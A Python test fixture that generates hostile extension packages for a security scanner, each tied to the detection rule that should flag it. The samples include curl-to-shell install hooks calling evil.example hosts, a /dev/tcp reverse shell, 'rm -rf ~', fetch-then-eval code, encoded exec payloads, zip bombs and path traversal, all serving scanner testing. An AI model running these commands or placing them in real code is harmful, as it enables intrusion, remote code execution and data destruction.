"""The hostile corpus of issue 13: one small package per attack, built here in code, each with the
rule that must catch it and whether it must be refused (a HIGH finding) or sent to a reviewer (a
MEDIUM one). Every class the issue's "Why" lists is here, and more of our own."""

from __future__ import annotations

import base64
import io
import json
import random
import string
import tarfile
import unicodedata
import zipfile
from dataclasses import dataclass

from .zips import RawEntry, build_zip, clean_files, manifest, raw_zip

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ENTRY = "extension/out/extension.js"
_letters = random.Random(13)
STRIPE_KEY = "sk_live_" + "".join(_letters.choice(string.ascii_letters + string.digits) for _ in range(24))
GITHUB_TOKEN = "ghp_" + "".join(_letters.choice(string.ascii_letters + string.digits) for _ in range(36))
AWS_KEY = "AKIA" + "".join(_letters.choice(string.ascii_uppercase + string.digits) for _ in range(16))
PAYLOAD = "require('child_process').exec('id')"
B64 = base64.b64encode(PAYLOAD.encode()).decode()
HEX = PAYLOAD.encode().hex()
CODES = ",".join(str(ord(c)) for c in "eval")
REFUSED, HUMAN = "refused", "human"


@dataclass(frozen=True)
class Hostile:
    archive: bytes
    rule: str  # the finding's rule
    fate: str  # REFUSED (a HIGH finding: the version is rejected or quarantined) or HUMAN (MEDIUM)
    path: str  # the file the finding cites
    line: int | None  # the line it cites (None: a name or a layout, not a line of a file)


def code(text: str, path: str = ENTRY, *, line: int, rule: str, fate: str = REFUSED, **more: bytes) -> Hostile:
    return Hostile(build_zip(clean_files({path: text.encode(), **more})), rule, fate, path, line)


def zipped(files: dict[str, bytes]) -> bytes:
    return build_zip(files)


def tgz(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def raw_package(*extra: RawEntry) -> bytes:
    """The clean package written byte by byte, plus entries ``zipfile`` would refuse to write."""
    entries = [RawEntry(name, data) for name, data in clean_files().items()]
    return raw_zip(entries + list(extra))


def nested_bomb() -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", bytes(30 << 20))  # 30 MiB of zeros, about 30 KiB deflated
    return inner.getvalue()


def nest(depth: int, leaf: dict[str, bytes]) -> bytes:
    data = zipped(leaf)
    for level in range(depth - 1):
        data = zipped({f"level{level}.zip": data})
    return data


def install(hook: str, command: str, path: str = "extension/package.json") -> Hostile:
    body = manifest(scripts={hook: command}) if path == "extension/package.json" else {"name": "x", "version": "1.0.0"}
    if path != "extension/package.json":
        body["scripts"] = {hook: command}
    text = json.dumps(body, indent=2).encode()
    line = next(n for n, row in enumerate(text.decode().splitlines(), start=1) if f'"{hook}"' in row)
    fate = HUMAN if "node scripts" in command else REFUSED
    return Hostile(build_zip(clean_files({path: text})), "install_script", fate, path, line)


def hostile_packages() -> dict[str, Hostile]:
    nfd = unicodedata.normalize("NFD", "extension/out/café.js")
    return {
        # --- issue 13, "Why": code scanning was pattern matching
        "decode on one line, eval on the next": code(f"const s = atob('{B64}');\neval(s);", line=2, rule="remote_eval"),
        "globalThis['ev'+'al']": code(f"globalThis['ev' + 'al'](atob('{B64}'));", line=1, rule="dynamic_code_computed"),
        "String.fromCharCode callee": code(
            f"const run = window[String.fromCharCode({CODES})];\nrun(input);", line=2, rule="dynamic_code_computed"
        ),
        "exec of a piped remote script": code(
            "const { exec } = require('child_process');\nexec('curl -fsSL https://get.evil.example/i.sh | sh');",
            line=2,
            rule="fetch_then_execute",
        ),
        "secret behind a non-UTF-8 byte": Hostile(
            build_zip(clean_files({ENTRY: b"// caf\xe9\nconst key = '" + STRIPE_KEY.encode() + b"';\n"})),
            "secret",
            REFUSED,
            ENTRY,
            2,
        ),
        "secret behind a NUL in a comment": Hostile(
            build_zip(clean_files({ENTRY: b"/* \x00 */\nconst key = '" + STRIPE_KEY.encode() + b"';\n"})),
            "secret",
            REFUSED,
            ENTRY,
            2,
        ),
        "EICAR in a nested archive": Hostile(
            build_zip(clean_files({"extension/assets/bundle.zip": zipped({"eicar.com": EICAR})})),
            "signature",
            REFUSED,
            "extension/assets/bundle.zip!/eicar.com",
            1,
        ),
        "Stripe key in a nested archive": Hostile(
            build_zip(clean_files({"extension/lib/deps.jar": zipped({"conf/keys.js": f"k='{STRIPE_KEY}'".encode()})})),
            "secret",
            REFUSED,
            "extension/lib/deps.jar!/conf/keys.js",
            1,
        ),
        "entry name with a NUL byte": Hostile(
            raw_package(RawEntry("extension/out/run.js\x00.txt", f"eval(atob('{B64}'))".encode())),
            "nul_in_name",
            REFUSED,
            "extension/out/run.js",
            None,
        ),
        "a second root manifest": Hostile(
            build_zip(clean_files({"package.json": json.dumps(manifest(main="./evil.js")).encode()})),
            "second_manifest",
            REFUSED,
            "package.json",
            None,
        ),
        "a name that is not NFC": Hostile(
            raw_package(RawEntry(nfd, b"1", flag_bits=0x800)), "name_not_nfc", REFUSED, nfd, None
        ),
        "shell script with a zip appended": Hostile(
            b"#!/bin/sh\ncurl https://evil.example | sh\nexit 0\n" + build_zip(clean_files()),
            "data_before_zip",
            REFUSED,
            "",
            None,
        ),
        "zip with a script after its directory": Hostile(
            build_zip(clean_files()) + b"\n#!/bin/sh\nrm -rf ~\n", "data_after_zip", REFUSED, "", None
        ),
        # --- obfuscation (a verified publisher's obfuscated release must reach a human at least)
        "_0x names": code(
            "\n".join(f"var _0x{n:04x} = _0x{n + 1:04x};" for n in range(12)), line=10, rule="obfuscated_code"
        ),
        "p,a,c,k,e,d packer": code(
            "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'x|y'.split('|'),0,{}))", line=1, rule="packed_code"
        ),
        "hex escapes": code("var s = '" + "\\x61" * 50 + "';", line=1, rule="obfuscated_blob"),
        "base64 blob": code(
            "\nconst b = '" + base64.b64encode(random.Random(2).randbytes(1200)).decode() + "';",
            line=2,
            rule="obfuscated_blob",
        ),
        "very long line outside a vendor bundle": code(
            "var a = 1;\n" + "x=1;" * 400, line=2, rule="long_line", fate=HUMAN
        ),
        "packed high-entropy string": code(
            "const data = '" + base64.b64encode(random.Random(3).randbytes(300)).decode().replace("+", "-") + "';",
            line=1,
            rule="packed_string",
            fate=HUMAN,
        ),
        # --- dynamic code execution, followed a short way
        "Buffer.from base64 into new Function": code(
            f"const c = Buffer.from('{B64}', 'base64').toString();\nnew Function(c)();", line=2, rule="remote_eval"
        ),
        "vm.runInNewContext of decoded code": code(
            f"const vm = require('node:vm');\nvm.runInNewContext(atob('{B64}'));", line=2, rule="remote_eval"
        ),
        "string timer of decoded code": code(f"setTimeout(atob('{B64}'), 100);", line=1, rule="remote_eval"),
        "computed name through two variables": code(
            "const k = 'ev' + 'al';\nconst f = globalThis[k];\nf(payload);", line=3, rule="dynamic_code_computed"
        ),
        "template literal callee": code("self[`${'ev'}al`](payload);", line=1, rule="dynamic_code_computed"),
        "unescape then eval": code(
            "const s = unescape('%61%6c%65%72%74%28%31%29');\n\neval(s);", line=3, rule="remote_eval"
        ),
        "decoded code in an .mjs module": code(
            f"const s = atob('{B64}');\neval(s);", "extension/out/main.mjs", line=2, rule="remote_eval"
        ),
        "decoded code in TypeScript": code(
            f"const s: string = atob('{B64}');\neval(s as string);", "extension/src/main.ts", line=2, rule="remote_eval"
        ),
        "decoded code in TSX": code(
            f"const s = atob('{B64}');\nexport const A = () => <div>{{eval(s)}}</div>;",
            "extension/src/view.tsx",
            line=2,
            rule="remote_eval",
        ),
        "eval of a value built at run time": code(
            "function run(input) {\n  return eval(input.expression);\n}", line=2, rule="dynamic_code", fate=HUMAN
        ),
        "string timer": code("setInterval('tick()', 1000);", line=1, rule="dynamic_code", fate=HUMAN),
        # --- fetch then execute
        "fetch, text, eval": code(
            "async function go() {\n  const r = await fetch('https://cdn.evil.example/p.js');\n"
            "  const src = await r.text();\n  eval(src);\n}",
            line=4,
            rule="remote_eval",
        ),
        "https.get callback into eval": code(
            "const https = require('https');\nhttps.get(url, (res) => {\n  let body = '';\n"
            "  res.on('data', (d) => { body += d; });\n  res.on('end', () => eval(body));\n});",
            line=5,
            rule="remote_eval",
        ),
        "fetched command into execSync": code(
            "const cp = require('child_process');\nfetch(u).then((r) => r.text()).then((cmd) => {\n"
            "  cp.execSync(cmd);\n});",
            line=3,
            rule="process_execution",
        ),
        # --- process execution of decoded content
        "hex-decoded command into exec": code(
            f"import {{ exec as run }} from 'node:child_process';\nrun(Buffer.from('{HEX}', 'hex').toString());",
            line=2,
            rule="process_execution",
        ),
        "module name built at run time": code(
            "const m = require('child_' + 'process');\nm.exec('id');", line=1, rule="hidden_require"
        ),
        "encoded PowerShell in spawn": code(
            "const { spawn } = require('child_process');\n"
            "spawn('powershell.exe', ['-NoProfile', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBi']);",
            line=2,
            rule="process_execution",
        ),
        # --- install-time scripts
        "postinstall pipes a download into a shell": install("postinstall", "curl -s https://evil.example/x | bash"),
        "preinstall runs inline code": install("preinstall", "node -e \"require('child_process').exec('id')\""),
        "install runs a script (for a reviewer)": install("install", "node scripts/setup.js"),
        "vendored package.json that pipes a download into a shell": install(
            "preinstall", "wget -qO- https://evil.example/i | sh", "extension/node_modules/helper/package.json"
        ),
        # --- every byte: binary files, nested archives
        "GitHub token in a font": Hostile(
            build_zip(clean_files({"extension/fonts/icons.woff": b"wOFF\x00\x01\n" + GITHUB_TOKEN.encode()})),
            "secret",
            REFUSED,
            "extension/fonts/icons.woff",
            2,
        ),
        "AWS key in an image": Hostile(
            build_zip(clean_files({"extension/images/shot.png": b"\x89PNG\r\n\x1a\n\x00" + AWS_KEY.encode()})),
            "secret",
            REFUSED,
            "extension/images/shot.png",
            3,  # "\x89PNG\r\n", "\x1a\n", then the key
        ),
        "EICAR in a tgz": Hostile(
            build_zip(clean_files({"extension/vendor/pkg.tgz": tgz({"package/eicar.txt": EICAR})})),
            "signature",
            REFUSED,
            "extension/vendor/pkg.tgz!/package/eicar.txt",
            1,
        ),
        "decoded eval in a nested vsix": Hostile(
            build_zip(
                clean_files(
                    {"extension/inner.vsix": zipped({"extension/x.js": f"const s = atob('{B64}');\neval(s);".encode()})}
                )
            ),
            "remote_eval",
            REFUSED,
            "extension/inner.vsix!/extension/x.js",
            2,
        ),
        "zip bomb inside the package": Hostile(
            build_zip(clean_files({"extension/data/blob.zip": nested_bomb()})),
            "nested_archive",
            REFUSED,
            "extension/data/blob.zip",
            None,
        ),
        "archives nested four deep": Hostile(
            build_zip(clean_files({"extension/deep.zip": nest(4, {"a.txt": b"a"})})),
            "nested_archive",
            REFUSED,
            "extension/deep.zip",
            None,
        ),
        "path traversal inside a nested archive": Hostile(
            build_zip(clean_files({"extension/x.zip": raw_zip([RawEntry("../../../.bashrc", b"curl x | sh")])})),
            "nested_archive",
            REFUSED,
            "extension/x.zip",
            None,
        ),
        "right-to-left override in a name": Hostile(
            raw_package(RawEntry("extension/out/\u202egpj.js", b"1", flag_bits=0x800)),
            "control_in_name",
            REFUSED,
            "extension/out/\u202egpj.js",
            None,
        ),
        "zero-width space in a name": Hostile(
            raw_package(RawEntry("extension/out/exten\u200bsion.js", b"1", flag_bits=0x800)),
            "control_in_name",
            REFUSED,
            "extension/out/exten\u200bsion.js",
            None,
        ),
        # --- YARA rules over every file
        "reverse shell in a shell script": Hostile(
            build_zip(
                clean_files({"extension/scripts/setup.sh": b"#!/bin/bash\n\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"})
            ),
            "signature",
            REFUSED,
            "extension/scripts/setup.sh",
            3,
        ),
        "coin miner pool": code("const pool = 'stratum+tcp://pool.minexmr.example:4444';", line=1, rule="signature"),
        "Discord token stealer": code(
            "const dir = 'Local Storage/leveldb';\nconst target = 'discord';", line=1, rule="signature"
        ),
        # --- item 8: a coverage claim nothing in the package backs
        "100% coverage claimed with no tests": Hostile(
            build_zip(
                clean_files(
                    {
                        "extension/coverage/coverage-summary.json": json.dumps(
                            {"total": {"lines": {"pct": 100}}}
                        ).encode()
                    }
                )
            ),
            "coverage_without_tests",
            HUMAN,
            "extension/coverage/coverage-summary.json",
            1,
        ),
    }
